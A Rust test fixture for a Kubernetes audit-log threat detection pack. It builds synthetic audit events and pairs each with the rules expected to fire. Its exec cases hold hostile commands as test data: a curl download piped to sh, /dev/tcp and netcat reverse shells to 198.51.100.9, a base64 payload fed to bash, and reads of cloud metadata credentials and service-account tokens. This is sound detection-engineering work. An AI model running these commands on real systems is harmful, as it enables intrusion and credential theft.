//! The threat pack's test cases: ordered sequences of realistic audit
//! events, and exactly which rules must fire over each sequence. The same
//! cases run natively (`tests/cases.rs` in this crate) and through the host
//! with the built `k8s_threats.wasm` (`tests/tests/falco_parity.rs` of the
//! tests crate includes this file), so both agree by construction.
//!
//! Every rule has positive cases and near-miss negatives: the same request
//! failed, by a controller, one event short of a threshold, just outside a
//! window, a harmless command.

#![allow(dead_code)]

use serde_json::{Value, json};

pub struct Case {
    pub name: &'static str,
    /// The module's configuration (`{}` for the defaults).
    pub config: Value,
    pub events: Vec<Value>,
    /// The rule ids that fire over the whole sequence, one per alert.
    pub fires: Vec<&'static str>,
}

const UA_KUBECTL: &str = "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350";

/// Seconds after 2026-07-01T10:00:00Z as an RFC 3339 timestamp (up to 20 days).
fn timestamp(secs: u64) -> String {
    let total = 10 * 3600 + secs;
    let (day, rest) = (total / 86_400, total % 86_400);
    format!(
        "2026-07-{:02}T{:02}:{:02}:{:02}.000000Z",
        1 + day,
        rest / 3600,
        rest % 3600 / 60,
        rest % 60
    )
}

/// Form-encodes a query value as kubectl's client does.
fn encode(s: &str) -> String {
    let mut out = String::new();
    for b in s.bytes() {
        match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                out.push(b as char)
            }
            b' ' => out.push('+'),
            _ => out.push_str(&format!("%{b:02X}")),
        }
    }
    out
}

/// An audit event under construction. Defaults: a person (`alice`) with
/// kubectl, allowed, 200, ResponseComplete, at second 0.
pub struct Ev(Value);

pub fn ev(verb: &str, uri: &str) -> Ev {
    Ev(json!({
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": "Request",
        "stage": "ResponseComplete",
        "verb": verb,
        "requestURI": uri,
        "user": {"username": "alice", "groups": ["oidc:platform", "system:authenticated"]},
        "sourceIPs": ["203.0.113.7"],
        "userAgent": UA_KUBECTL,
        "responseStatus": {"metadata": {}, "code": 200},
        "annotations": {
            "authorization.k8s.io/decision": "allow",
            "authorization.k8s.io/reason": "RBAC: allowed by ClusterRoleBinding \"platform\""
        }
    }))
    .at(0)
}

impl Ev {
    pub fn at(mut self, secs: u64) -> Ev {
        let t = timestamp(secs);
        self.0["requestReceivedTimestamp"] = json!(t);
        self.0["stageTimestamp"] = json!(t);
        self
    }
    pub fn user(mut self, name: &str) -> Ev {
        let groups = if name == "system:anonymous" {
            json!(["system:unauthenticated"])
        } else if name.starts_with("system:serviceaccount:") {
            json!(["system:serviceaccounts", "system:authenticated"])
        } else if name.starts_with("system:node:") {
            json!(["system:nodes", "system:authenticated"])
        } else {
            json!(["system:authenticated"])
        };
        self.0["user"] = json!({"username": name, "groups": groups});
        self
    }
    pub fn no_user(mut self) -> Ev {
        self.0["user"] = json!({});
        self
    }
    pub fn object(mut self, resource: &str, namespace: Option<&str>, name: Option<&str>) -> Ev {
        let group = match resource {
            "deployments" | "daemonsets" | "statefulsets" | "replicasets" => "apps",
            "jobs" | "cronjobs" => "batch",
            "roles" | "clusterroles" | "rolebindings" | "clusterrolebindings" => {
                "rbac.authorization.k8s.io"
            }
            "mutatingwebhookconfigurations"
            | "validatingwebhookconfigurations"
            | "validatingadmissionpolicies"
            | "validatingadmissionpolicybindings" => "admissionregistration.k8s.io",
            "certificatesigningrequests" => "certificates.k8s.io",
            "customresourcedefinitions" => "apiextensions.k8s.io",
            _ => "",
        };
        let mut r = json!({"resource": resource, "apiVersion": "v1"});
        if !group.is_empty() {
            r["apiGroup"] = json!(group);
        }
        if let Some(ns) = namespace {
            r["namespace"] = json!(ns);
        }
        if let Some(n) = name {
            r["name"] = json!(n);
        }
        self.0["objectRef"] = r;
        self
    }
    pub fn api_group(mut self, group: &str) -> Ev {
        self.0["objectRef"]["apiGroup"] = json!(group);
        self
    }
    pub fn sub(mut self, subresource: &str) -> Ev {
        self.0["objectRef"]["subresource"] = json!(subresource);
        self
    }
    pub fn code(mut self, code: i64) -> Ev {
        self.0["responseStatus"]["code"] = json!(code);
        if code == 403 || code == 401 {
            self.0["annotations"]["authorization.k8s.io/decision"] = json!("forbid");
        }
        self
    }
    pub fn stage(mut self, stage: &str) -> Ev {
        self.0["stage"] = json!(stage);
        self
    }
    pub fn ua(mut self, ua: &str) -> Ev {
        self.0["userAgent"] = json!(ua);
        self
    }
    pub fn ip(mut self, ip: &str) -> Ev {
        self.0["sourceIPs"] = json!([ip]);
        self
    }
    pub fn body(mut self, body: Value) -> Ev {
        self.0["requestObject"] = body;
        self
    }
    pub fn audit_id(mut self, id: &str) -> Ev {
        self.0["auditID"] = json!(id);
        self
    }
    pub fn annotation(mut self, key: &str, value: &str) -> Ev {
        self.0["annotations"][key] = json!(value);
        self
    }
    pub fn impersonate(mut self, user: &str, groups: &[&str]) -> Ev {
        self.0["impersonatedUser"] = json!({"username": user, "groups": groups});
        self
    }
    pub fn done(self) -> Value {
        self.0
    }
    /// Several source IPs (a request through proxies: client first).
    pub fn done_with_ips(mut self, ips: &[&str]) -> Ev {
        self.0["sourceIPs"] = json!(ips);
        self
    }
}

/// `kubectl exec` over WebSocket (verb get, kubectl 1.30+) or SPDY (create).
pub fn exec(verb: &str, ns: &str, pod: &str, command: &[&str]) -> Ev {
    let mut uri = format!("/api/v1/namespaces/{ns}/pods/{pod}/exec?");
    for c in command {
        uri.push_str(&format!("command={}&", encode(c)));
    }
    uri.push_str("container=app&stdin=true&stdout=true&tty=true");
    ev(verb, &uri)
        .object("pods", Some(ns), Some(pod))
        .sub("exec")
        .code(101)
        .stage("ResponseStarted")
}

pub fn pod(ns: &str, name: &str, spec: Value) -> Ev {
    ev("create", &format!("/api/v1/namespaces/{ns}/pods"))
        .object("pods", Some(ns), Some(name))
        .code(201)
        .body(json!({"kind": "Pod", "apiVersion": "v1",
            "metadata": {"name": name, "namespace": ns}, "spec": spec}))
}

pub fn workload(verb: &str, resource: &str, ns: &str, name: &str, spec: Value) -> Ev {
    let (group, kind) = match resource {
        "deployments" => ("apps", "Deployment"),
        "daemonsets" => ("apps", "DaemonSet"),
        "statefulsets" => ("apps", "StatefulSet"),
        "replicasets" => ("apps", "ReplicaSet"),
        "jobs" => ("batch", "Job"),
        _ => ("batch", "CronJob"),
    };
    let template = json!({"metadata": {"labels": {"app": name}}, "spec": spec});
    let spec = if kind == "CronJob" {
        json!({"schedule": "*/5 * * * *", "jobTemplate": {"spec": {"template": template}}})
    } else {
        json!({"selector": {"matchLabels": {"app": name}}, "template": template})
    };
    let uri = if verb == "create" {
        format!("/apis/{group}/v1/namespaces/{ns}/{resource}")
    } else {
        format!("/apis/{group}/v1/namespaces/{ns}/{resource}/{name}")
    };
    ev(verb, &uri)
        .object(resource, Some(ns), Some(name))
        .code(if verb == "create" { 201 } else { 200 })
        .body(json!({"kind": kind, "apiVersion": format!("{group}/v1"),
            "metadata": {"name": name, "namespace": ns}, "spec": spec}))
}

/// A delete of a namespaced apps object, with its DeleteOptions.
pub fn del(resource: &str, ns: &str, name: &str) -> Ev {
    ev(
        "delete",
        &format!("/apis/apps/v1/namespaces/{ns}/{resource}/{name}"),
    )
    .object(resource, Some(ns), Some(name))
    .body(
        json!({"kind": "DeleteOptions", "apiVersion": "meta.k8s.io/v1",
        "propagationPolicy": "Background"}),
    )
}

/// A plain request on a named object.
pub fn simple(verb: &str, resource: &str, ns: Option<&str>, name: Option<&str>) -> Ev {
    let prefix = match ns {
        Some(ns) => format!("/api/v1/namespaces/{ns}/{resource}"),
        None => format!("/api/v1/{resource}"),
    };
    let uri = match name {
        Some(n) => format!("{prefix}/{n}"),
        None => prefix,
    };
    ev(verb, &uri).object(resource, ns, name)
}

pub fn binding(resource: &str, ns: Option<&str>, name: &str, role: &str, subjects: Value) -> Ev {
    let kind = if resource == "clusterrolebindings" {
        "ClusterRoleBinding"
    } else {
        "RoleBinding"
    };
    let role_kind = if role.starts_with("cluster") || resource == "clusterrolebindings" {
        "ClusterRole"
    } else {
        "Role"
    };
    let uri = match ns {
        Some(ns) => format!("/apis/rbac.authorization.k8s.io/v1/namespaces/{ns}/{resource}"),
        None => format!("/apis/rbac.authorization.k8s.io/v1/{resource}"),
    };
    ev("create", &uri)
        .object(resource, ns, Some(name))
        .code(201)
        .body(
            json!({"kind": kind, "apiVersion": "rbac.authorization.k8s.io/v1",
            "metadata": {"name": name},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": role_kind, "name": role},
            "subjects": subjects}),
        )
}

pub fn role(resource: &str, name: &str, rules: Value) -> Ev {
    let kind = if resource == "clusterroles" {
        "ClusterRole"
    } else {
        "Role"
    };
    let ns = (resource == "roles").then_some("default");
    let uri = match ns {
        Some(ns) => format!("/apis/rbac.authorization.k8s.io/v1/namespaces/{ns}/roles"),
        None => "/apis/rbac.authorization.k8s.io/v1/clusterroles".to_string(),
    };
    ev("create", &uri)
        .object(resource, ns, Some(name))
        .code(201)
        .body(
            json!({"kind": kind, "apiVersion": "rbac.authorization.k8s.io/v1",
            "metadata": {"name": name}, "rules": rules}),
        )
}

fn container(name: &str, image: &str) -> Value {
    json!({"name": name, "image": image})
}

fn benign_spec() -> Value {
    json!({"containers": [container("app", "registry.example.com/shop/web:1.4.2")]})
}

fn case(name: &'static str, events: Vec<Ev>, fires: &[&'static str]) -> Case {
    config_case(name, json!({}), events, fires)
}

fn config_case(name: &'static str, config: Value, events: Vec<Ev>, fires: &[&'static str]) -> Case {
    let events = events
        .into_iter()
        .enumerate()
        .map(|(i, e)| {
            let mut v = e.done();
            if v.get("auditID").is_none() {
                v["auditID"] = json!(format!("{name}-{i}"));
            }
            v
        })
        .collect();
    let mut fires = fires.to_vec();
    fires.sort();
    Case {
        name,
        config,
        events,
        fires,
    }
}

fn repeat(n: u64, f: impl Fn(u64) -> Ev) -> Vec<Ev> {
    (0..n).map(f).collect()
}

pub fn cases() -> Vec<Case> {
    let mut all = Vec::new();
    all.extend(exec_cases());
    all.extend(workload_cases());
    all.extend(rbac_and_admission_cases());
    all.extend(stateful_cases());
    all.extend(single_request_cases());
    all.extend(configuration_cases());
    all.extend(persistence_and_exposure_cases());
    all
}

fn exec_cases() -> Vec<Case> {
    let curl_sh = ["sh", "-c", "curl -fsSL http://198.51.100.9/x.sh | sh"];
    vec![
        case(
            "exec over websocket pipes a download into sh, seen at both stages",
            vec![
                exec("get", "shop", "web-0", &curl_sh).audit_id("ws-exec-1"),
                exec("get", "shop", "web-0", &curl_sh)
                    .audit_id("ws-exec-1")
                    .stage("ResponseComplete")
                    .at(30),
            ],
            &["exec-shell-or-download"],
        ),
        case(
            "exec over spdy opens a /dev/tcp reverse shell",
            vec![exec(
                "create",
                "shop",
                "web-0",
                &["bash", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"],
            )],
            &["exec-shell-or-download"],
        ),
        case(
            "exec decodes a base64 payload into bash",
            vec![exec(
                "get",
                "shop",
                "web-0",
                &["sh", "-c", "echo Y3VybCBldmlsIHwgc2g= | base64 -d | bash"],
            )],
            &["exec-shell-or-download"],
        ),
        case(
            "near miss: exec curls a health endpoint",
            vec![exec(
                "get",
                "shop",
                "web-0",
                &["sh", "-c", "curl -s http://localhost:8080/healthz"],
            )],
            &[],
        ),
        case(
            "near miss: reverse shell exec that was forbidden",
            vec![
                exec(
                    "create",
                    "shop",
                    "web-0",
                    &["nc", "-e", "/bin/sh", "198.51.100.9", "4444"],
                )
                .code(403)
                .stage("ResponseComplete"),
            ],
            &[],
        ),
        case(
            "exec reads the instance metadata credentials",
            vec![exec(
                "get",
                "shop",
                "web-0",
                &[
                    "curl",
                    "-s",
                    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
                ],
            )],
            &["exec-cloud-credentials"],
        ),
        case(
            "exec reads the service account token",
            vec![exec(
                "create",
                "shop",
                "web-0",
                &["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
            )],
            &["exec-cloud-credentials"],
        ),
        case(
            "near miss: exec reads an ordinary file",
            vec![exec("get", "shop", "web-0", &["cat", "/etc/hostname"])],
            &[],
        ),
        case(
            "kubectl cp out of a pod runs tar cf -",
            vec![exec(
                "create",
                "db",
                "postgres-0",
                &["tar", "cf", "-", "/var/lib/postgresql/data"],
            )],
            &["kubectl-cp-exfiltration"],
        ),
        case(
            "near miss: kubectl cp into a pod runs tar xmf -",
            vec![exec(
                "create",
                "db",
                "postgres-0",
                &["tar", "xmf", "-", "-C", "/tmp"],
            )],
            &[],
        ),
    ]
}

fn workload_cases() -> Vec<Case> {
    let sys_admin_init = json!({
        "initContainers": [{"name": "setup", "image": "registry.example.com/tools/setup:2",
            "securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}}}],
        "containers": [container("app", "registry.example.com/shop/web:1.4.2")]
    });
    let harmless_caps = json!({"containers": [{"name": "app", "image": "registry.example.com/shop/web:1.4.2",
        "securityContext": {"capabilities": {"add": ["NET_BIND_SERVICE", "CHOWN"], "drop": ["ALL"]}}}]});
    let risky_ds = json!({"hostPID": true,
        "containers": [container("agent", "registry.example.com/ops/agent:3")],
        "volumes": [{"name": "run", "hostPath": {"path": "/var/run"}}]});
    let privileged = json!({"containers": [{"name": "job", "image": "registry.example.com/ops/cleanup:1",
        "securityContext": {"privileged": true}}]});
    vec![
        case(
            "pod adds SYS_ADMIN in an init container",
            vec![pod("shop", "web-debug", sys_admin_init.clone())],
            &["dangerous-capabilities"],
        ),
        case(
            "ephemeral container adds NET_ADMIN",
            vec![
                ev(
                    "patch",
                    "/api/v1/namespaces/shop/pods/web-0/ephemeralcontainers",
                )
                .object("pods", Some("shop"), Some("web-0"))
                .sub("ephemeralcontainers")
                .body(
                    json!({"spec": {"ephemeralContainers": [{"name": "debugger-x",
                        "image": "busybox:1.36", "targetContainerName": "app",
                        "securityContext": {"capabilities": {"add": ["NET_ADMIN"]}}}]}}),
                ),
            ],
            &["dangerous-capabilities"],
        ),
        case(
            "near miss: pod adds only harmless capabilities",
            vec![pod("shop", "web-1", harmless_caps)],
            &[],
        ),
        case(
            "near miss: SYS_ADMIN pod create that was forbidden",
            vec![pod("shop", "web-debug", sys_admin_init).code(403)],
            &[],
        ),
        case(
            "a person creates a DaemonSet sharing the host PID namespace and /var/run",
            vec![workload(
                "create",
                "daemonsets",
                "ops",
                "node-agent",
                risky_ds.clone(),
            )],
            &["daemonset-created", "risky-workload-template"],
        ),
        case(
            "a person patches a CronJob to run privileged",
            vec![workload(
                "patch",
                "cronjobs",
                "ops",
                "cleanup",
                privileged.clone(),
            )],
            &["cronjob-created-or-modified", "risky-workload-template"],
        ),
        case(
            "near miss: a person creates an ordinary Deployment",
            vec![workload(
                "create",
                "deployments",
                "shop",
                "web",
                benign_spec(),
            )],
            &[],
        ),
        case(
            "near miss: the deployment controller creates a privileged ReplicaSet",
            vec![
                workload("create", "replicasets", "ops", "cleanup-5d9f", privileged)
                    .user("system:serviceaccount:kube-system:deployment-controller"),
            ],
            &[],
        ),
        case(
            "pod mounts the docker socket",
            vec![pod(
                "ci",
                "builder",
                json!({"containers": [container("b", "docker:27-cli")],
                    "volumes": [{"name": "sock", "hostPath": {"path": "/var/run/docker.sock", "type": "Socket"}}]}),
            )],
            &["host-root-or-runtime-socket-mount"],
        ),
        case(
            "kubectl debug node: pod with the host root at /host",
            vec![pod(
                "default",
                "node-debugger-n1-abcde",
                json!({"hostPID": true, "hostNetwork": true, "nodeName": "n1",
                    "containers": [{"name": "debugger", "image": "busybox:1.36",
                        "volumeMounts": [{"name": "host-root", "mountPath": "/host"}]}],
                    "volumes": [{"name": "host-root", "hostPath": {"path": "/"}}]}),
            )],
            &["host-root-or-runtime-socket-mount"],
        ),
        case(
            "near miss: pod mounts a host data directory",
            vec![pod(
                "shop",
                "cache",
                json!({"containers": [container("c", "registry.example.com/shop/cache:1")],
                    "volumes": [{"name": "d", "hostPath": {"path": "/data/cache"}}]}),
            )],
            &[],
        ),
        case(
            "privileged ephemeral container (kubectl debug --profile=sysadmin)",
            vec![
                ev(
                    "patch",
                    "/api/v1/namespaces/shop/pods/web-0/ephemeralcontainers",
                )
                .object("pods", Some("shop"), Some("web-0"))
                .sub("ephemeralcontainers")
                .body(
                    json!({"spec": {"ephemeralContainers": [{"name": "debugger-y",
                        "image": "busybox:1.36", "securityContext": {"privileged": true}}]}}),
                ),
            ],
            &["privileged-ephemeral-container"],
        ),
        case(
            "near miss: unprivileged ephemeral container",
            vec![
                ev(
                    "patch",
                    "/api/v1/namespaces/shop/pods/web-0/ephemeralcontainers",
                )
                .object("pods", Some("shop"), Some("web-0"))
                .sub("ephemeralcontainers")
                .body(
                    json!({"spec": {"ephemeralContainers": [{"name": "debugger-z",
                        "image": "busybox:1.36"}]}}),
                ),
            ],
            &[],
        ),
        case(
            "pod image from a raw IP registry",
            vec![pod(
                "shop",
                "helper",
                json!({"containers": [container("h", "203.0.113.50:5000/tools/xmrig:latest")]}),
            )],
            &["image-from-ip-registry"],
        ),
        case(
            "deployment template image from a raw IP registry",
            vec![workload(
                "create",
                "deployments",
                "shop",
                "helper",
                json!({"containers": [container("h", "198.51.100.20/tools/h:1")]}),
            )],
            &["image-from-ip-registry"],
        ),
        case(
            "near miss: image from a named registry with a port",
            vec![pod(
                "shop",
                "helper",
                json!({"containers": [container("h", "registry.example.com:5000/tools/h:1")]}),
            )],
            &[],
        ),
    ]
}

fn rbac_and_admission_cases() -> Vec<Case> {
    vec![
        case(
            "mutating webhook created",
            vec![
                simple(
                    "create",
                    "mutatingwebhookconfigurations",
                    None,
                    Some("inject"),
                )
                .code(201)
                .api_group("admissionregistration.k8s.io"),
            ],
            &["admission-webhook-changed"],
        ),
        case(
            "validating admission policy binding deleted",
            vec![
                simple(
                    "delete",
                    "validatingadmissionpolicybindings",
                    None,
                    Some("deny-privileged"),
                )
                .api_group("admissionregistration.k8s.io"),
            ],
            &["admission-webhook-changed"],
        ),
        case(
            "near miss: cert-manager's cainjector patches a webhook's CA bundle",
            vec![
                simple(
                    "patch",
                    "validatingwebhookconfigurations",
                    None,
                    Some("cert-manager-webhook"),
                )
                .user("system:serviceaccount:cert-manager:cert-manager-cainjector"),
            ],
            &[],
        ),
        case(
            "client certificate requested for the apiserver client signer",
            vec![
                simple(
                    "create",
                    "certificatesigningrequests",
                    None,
                    Some("alice-admin"),
                )
                .code(201)
                .body(json!({"kind": "CertificateSigningRequest",
                        "spec": {"signerName": "kubernetes.io/kube-apiserver-client",
                            "usages": ["client auth"], "request": "LS0t"}})),
            ],
            &["client-certificate-requested"],
        ),
        case(
            "client certificate request approved by a person",
            vec![
                simple(
                    "update",
                    "certificatesigningrequests",
                    None,
                    Some("alice-admin"),
                )
                .sub("approval")
                .user("bob")
                .body(json!({"kind": "CertificateSigningRequest",
                        "spec": {"signerName": "kubernetes.io/kube-apiserver-client",
                            "usages": ["client auth"]},
                        "status": {"conditions": [{"type": "Approved", "status": "True",
                            "reason": "KubectlApprove"}]}})),
            ],
            &["client-certificate-requested"],
        ),
        case(
            "near miss: a kubelet requests its client certificate",
            vec![
                simple(
                    "create",
                    "certificatesigningrequests",
                    None,
                    Some("csr-abcde"),
                )
                .user("system:node:n1")
                .code(201)
                .body(json!({"spec": {"signerName": "kubernetes.io/kube-apiserver-client"}})),
            ],
            &[],
        ),
        case(
            "near miss: a person requests a serving certificate",
            vec![
                simple(
                    "create",
                    "certificatesigningrequests",
                    None,
                    Some("web-tls"),
                )
                .code(201)
                .body(json!({"spec": {"signerName": "example.com/serving",
                        "usages": ["server auth"]}})),
            ],
            &[],
        ),
        case(
            "cluster role bound to all unauthenticated users",
            vec![binding(
                "clusterrolebindings",
                None,
                "open-view",
                "view",
                json!([{"kind": "Group", "apiGroup": "rbac.authorization.k8s.io",
                    "name": "system:unauthenticated"}]),
            )],
            &["binding-to-anonymous-or-authenticated"],
        ),
        case(
            "near miss: cluster role bound to a named group",
            vec![binding(
                "clusterrolebindings",
                None,
                "dev-view",
                "view",
                json!([{"kind": "Group", "apiGroup": "rbac.authorization.k8s.io", "name": "developers"}]),
            )],
            &[],
        ),
        case(
            "role binding to cluster-admin for a user",
            vec![binding(
                "rolebindings",
                Some("shop"),
                "mallory-admin",
                "cluster-admin",
                json!([{"kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": "mallory"}]),
            )],
            &["cluster-admin-binding"],
        ),
        case(
            "near miss: role binding to view",
            vec![binding(
                "rolebindings",
                Some("shop"),
                "mallory-view",
                "view",
                json!([{"kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": "mallory"}]),
            )],
            &[],
        ),
        case(
            "cluster role grants bind and token minting",
            vec![role(
                "clusterroles",
                "binder",
                json!([{"apiGroups": ["rbac.authorization.k8s.io"], "resources": ["clusterroles"],
                        "verbs": ["bind"]},
                       {"apiGroups": [""], "resources": ["serviceaccounts/token"], "verbs": ["create"]}]),
            )],
            &["role-grants-escalation-verbs"],
        ),
        case(
            "near miss: cluster role reads pods",
            vec![role(
                "clusterroles",
                "pod-reader",
                json!([{"apiGroups": [""], "resources": ["pods"], "verbs": ["get", "list"]}]),
            )],
            &[],
        ),
        case(
            "kubelet API reached through nodes/proxy",
            vec![
                ev("get", "/api/v1/nodes/n1/proxy/pods")
                    .object("nodes", None, Some("n1"))
                    .sub("proxy"),
            ],
            &["nodes-proxy-access"],
        ),
        case(
            "cluster role grants nodes/proxy",
            vec![role(
                "clusterroles",
                "kubelet-reader",
                json!([{"apiGroups": [""], "resources": ["nodes/proxy"], "verbs": ["get", "create"]}]),
            )],
            &["nodes-proxy-access"],
        ),
        case(
            "near miss: reading a node and a role that reads nodes",
            vec![
                simple("get", "nodes", None, Some("n1")),
                role(
                    "clusterroles",
                    "node-reader",
                    json!([{"apiGroups": [""], "resources": ["nodes"], "verbs": ["get", "list"]}]),
                ),
            ],
            &[],
        ),
        case(
            "near miss: nodes/proxy request that was forbidden",
            vec![
                ev(
                    "create",
                    "/api/v1/nodes/n1/proxy/exec/kube-system/etcd-0/etcd?command=sh",
                )
                .object("nodes", None, Some("n1"))
                .sub("proxy")
                .code(403),
            ],
            &[],
        ),
    ]
}

fn stateful_cases() -> Vec<Case> {
    let secret_get =
        |i: u64, t: u64| simple("get", "secrets", Some("shop"), Some(&format!("s{i}"))).at(t);
    let forbidden = |t: u64| {
        simple("list", "secrets", Some("kube-system"), None)
            .user("mallory")
            .code(403)
            .at(t)
    };
    let list_type = |r: &str, t: u64| simple("list", r, Some("shop"), None).at(t);
    let types = [
        "pods",
        "services",
        "configmaps",
        "secrets",
        "serviceaccounts",
        "endpoints",
        "events",
        "persistentvolumeclaims",
        "limitranges",
        "resourcequotas",
    ];
    let delete = |i: u64, t: u64| del("deployments", "shop", &format!("d{i}")).at(t);
    let rbac_write = |t: u64| {
        binding(
            "rolebindings",
            Some("shop"),
            "ci-edit",
            "edit",
            json!([{"kind": "ServiceAccount", "name": "ci", "namespace": "shop"}]),
        )
        .at(t)
    };
    let deploy = |t: u64| workload("create", "deployments", "shop", "web", benign_spec()).at(t);
    let day = 86_400;
    vec![
        case(
            "ten distinct secrets read within five minutes, then more: one alert",
            (0..12).map(|i| secret_get(i, i * 20)).collect(),
            &["secrets-read-burst"],
        ),
        case(
            "near miss: nine distinct secrets, and one secret read ten times",
            (0..9)
                .map(|i| secret_get(i, i * 10))
                .chain((0..10).map(|t| secret_get(0, 100 + t)))
                .collect(),
            &[],
        ),
        case(
            "near miss: ten distinct secrets spread over ten minutes",
            (0..10).map(|i| secret_get(i, i * 60)).collect(),
            &[],
        ),
        case(
            "ten 403s for one principal within a minute",
            repeat(10, |i| forbidden(i * 3)),
            &["forbidden-storm"],
        ),
        case(
            "ten 401s from one address without credentials",
            repeat(10, |i| {
                ev("get", "/api/v1/namespaces/kube-system/secrets")
                    .no_user()
                    .ip("198.51.100.66")
                    .code(401)
                    .at(i)
            }),
            &["forbidden-storm"],
        ),
        case(
            "near miss: nine 403s, then a tenth after the window",
            repeat(9, forbidden)
                .into_iter()
                .chain([forbidden(120)])
                .collect(),
            &[],
        ),
        case(
            "ten resource types listed within a minute",
            types
                .iter()
                .enumerate()
                .map(|(i, r)| list_type(r, i as u64 * 5))
                .collect(),
            &["api-enumeration-burst"],
        ),
        case(
            "near miss: nine resource types, and one type listed many times",
            types[..9]
                .iter()
                .enumerate()
                .map(|(i, r)| list_type(r, i as u64))
                .chain((0..10).map(|t| list_type("pods", 10 + t)))
                .collect(),
            &[],
        ),
        case(
            "a person known for a day switches to python-requests",
            vec![
                simple("get", "pods", Some("shop"), Some("web-0")),
                simple("get", "pods", Some("shop"), Some("web-0")).at(day + 60),
                simple("get", "secrets", Some("shop"), Some("db"))
                    .ua("python-requests/2.31.0")
                    .at(day + 120),
            ],
            &["new-user-agent-for-identity"],
        ),
        case(
            "the learning period is exact: a new client at 23:59:59 is learned, at 24:00:00 it alerts",
            vec![
                simple("get", "pods", Some("shop"), Some("web-0")),
                simple("get", "pods", Some("shop"), Some("web-0"))
                    .ua("curl/8.5.0")
                    .at(day - 1),
                simple("get", "pods", Some("shop"), Some("web-0"))
                    .ua("Go-http-client/2.0")
                    .at(day),
                simple("get", "pods", Some("shop"), Some("web-0"))
                    .ua("curl/8.6.0")
                    .at(day + 5),
            ],
            &["new-user-agent-for-identity"],
        ),
        case(
            "near miss: a new kubectl version, and a service account's new client",
            vec![
                simple("get", "pods", Some("shop"), Some("web-0")),
                simple("get", "pods", Some("shop"), Some("web-0"))
                    .ua("kubectl/v1.31.0 (darwin/arm64) kubernetes/abc")
                    .at(day + 60),
                simple("get", "pods", Some("shop"), None).user("system:serviceaccount:shop:ci"),
                simple("get", "pods", Some("shop"), None)
                    .user("system:serviceaccount:shop:ci")
                    .ua("python-requests/2.31.0")
                    .at(day + 60),
            ],
            &[],
        ),
        case(
            "RBAC write, then a deployment by the same user five minutes later",
            vec![rbac_write(0), deploy(300)],
            &["rbac-then-workload"],
        ),
        case(
            "near miss: the deployment comes after the window",
            vec![rbac_write(0), deploy(700)],
            &[],
        ),
        case(
            "near miss: the deployment is by someone else",
            vec![rbac_write(0), deploy(60).user("bob")],
            &[],
        ),
        case(
            "ten deployments deleted within a minute",
            (0..10).map(|i| delete(i, i * 6)).collect(),
            &["mass-deletion"],
        ),
        case(
            "near miss: nine deployments deleted, and the namespace controller deleting twenty",
            (0..9)
                .map(|i| delete(i, i))
                .chain((0..20).map(|i| {
                    delete(100 + i, 10 + i)
                        .user("system:serviceaccount:kube-system:namespace-controller")
                }))
                .collect(),
            &[],
        ),
    ]
}

fn single_request_cases() -> Vec<Case> {
    vec![
        case(
            "events deleted by a person",
            vec![simple("deletecollection", "events", Some("shop"), None)],
            &["events-deleted"],
        ),
        case(
            "events.k8s.io event deleted by a person",
            vec![
                simple("delete", "events", Some("shop"), Some("web-0.17a"))
                    .api_group("events.k8s.io"),
            ],
            &["events-deleted"],
        ),
        case(
            "near miss: event delete forbidden, and a controller's delete",
            vec![
                simple("delete", "events", Some("shop"), Some("web-0.17a")).code(403),
                simple("delete", "events", Some("shop"), Some("web-0.17b"))
                    .user("system:kube-controller-manager"),
            ],
            &[],
        ),
        case(
            "falco's DaemonSet deleted",
            vec![del("daemonsets", "falco", "falco")],
            &["security-agent-tampering"],
        ),
        case(
            "peregrine's Deployment scaled to zero",
            vec![
                ev(
                    "patch",
                    "/apis/apps/v1/namespaces/peregrine/deployments/peregrine/scale",
                )
                .object("deployments", Some("peregrine"), Some("peregrine"))
                .sub("scale")
                .body(json!({"spec": {"replicas": 0}})),
            ],
            &["security-agent-tampering"],
        ),
        case(
            "near miss: another DaemonSet patched, and the agent's status updated",
            vec![
                workload("patch", "daemonsets", "logging", "fluent-bit", json!({})),
                ev(
                    "update",
                    "/apis/apps/v1/namespaces/falco/daemonsets/falco/status",
                )
                .object("daemonsets", Some("falco"), Some("falco"))
                .sub("status")
                .user("system:serviceaccount:kube-system:daemon-set-controller"),
            ],
            &[],
        ),
        case(
            "secrets listed across all namespaces",
            vec![simple("list", "secrets", None, None)],
            &["cluster-wide-secret-list"],
        ),
        case(
            "near miss: secrets listed in one namespace",
            vec![simple("list", "secrets", Some("shop"), None)],
            &[],
        ),
        case(
            "token requested for a service account by a person",
            vec![
                simple("create", "serviceaccounts", Some("shop"), Some("builder"))
                    .sub("token")
                    .code(201),
            ],
            &["token-request-unusual"],
        ),
        case(
            "near miss: the kubelet requests a projected token",
            vec![
                simple("create", "serviceaccounts", Some("shop"), Some("builder"))
                    .sub("token")
                    .user("system:node:n1")
                    .code(201),
            ],
            &[],
        ),
        case(
            "port forward to a database pod, seen at both stages",
            vec![
                ev(
                    "get",
                    "/api/v1/namespaces/db/pods/postgres-0/portforward?ports=5432",
                )
                .object("pods", Some("db"), Some("postgres-0"))
                .sub("portforward")
                .code(101)
                .stage("ResponseStarted")
                .audit_id("pf-1"),
                ev(
                    "get",
                    "/api/v1/namespaces/db/pods/postgres-0/portforward?ports=5432",
                )
                .object("pods", Some("db"), Some("postgres-0"))
                .sub("portforward")
                .code(101)
                .audit_id("pf-1")
                .at(600),
            ],
            &["pod-port-forward"],
        ),
        case(
            "near miss: port forward forbidden",
            vec![
                ev(
                    "create",
                    "/api/v1/namespaces/db/pods/postgres-0/portforward",
                )
                .object("pods", Some("db"), Some("postgres-0"))
                .sub("portforward")
                .code(403),
            ],
            &[],
        ),
        case(
            "coredns ConfigMap patched by a person",
            vec![simple(
                "patch",
                "configmaps",
                Some("kube-system"),
                Some("coredns"),
            )],
            &["kube-system-config-modified"],
        ),
        case(
            "near miss: ConfigMap patched elsewhere, and a kube-system secret read",
            vec![
                simple("patch", "configmaps", Some("shop"), Some("web-config")),
                simple(
                    "get",
                    "secrets",
                    Some("kube-system"),
                    Some("bootstrap-token-abc"),
